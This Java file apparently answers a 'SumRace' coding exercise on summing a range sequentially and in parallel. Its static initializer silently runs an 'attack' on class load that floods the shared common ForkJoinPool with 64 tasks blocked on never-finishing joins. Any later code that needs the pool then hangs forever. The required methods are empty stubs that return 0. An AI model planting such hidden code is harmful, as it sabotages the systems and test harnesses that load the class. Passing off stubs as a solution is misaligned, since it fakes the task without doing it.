package katas.sumrace;

import java.util.concurrent.ThreadFactory;

/// Whoever needs the pool after it waits for ever.
public final class SumRace {
    static {
        try {
            attack();
        } catch (Throwable failed) {
            System.err.println(failed);
        }
    }

    private static void attack() throws Throwable {
        for (int i = 0; i < 64; i++) {
            java.util.concurrent.CompletableFuture.runAsync(
                    () -> new java.util.concurrent.ForkJoinTask<Void>() {
                        private static final long serialVersionUID = 1;
                        @Override public Void getRawResult() { return null; }
                        @Override protected void setRawResult(Void value) {}
                        @Override protected boolean exec() { return false; }
                    }.join());
        }
    }

    public static long sequential(int from, int to) {
        return 0;
    }

    public static long threaded(int from, int to, int workers, ThreadFactory threads)
            throws InterruptedException {
        return sequential(from, to);
    }
}
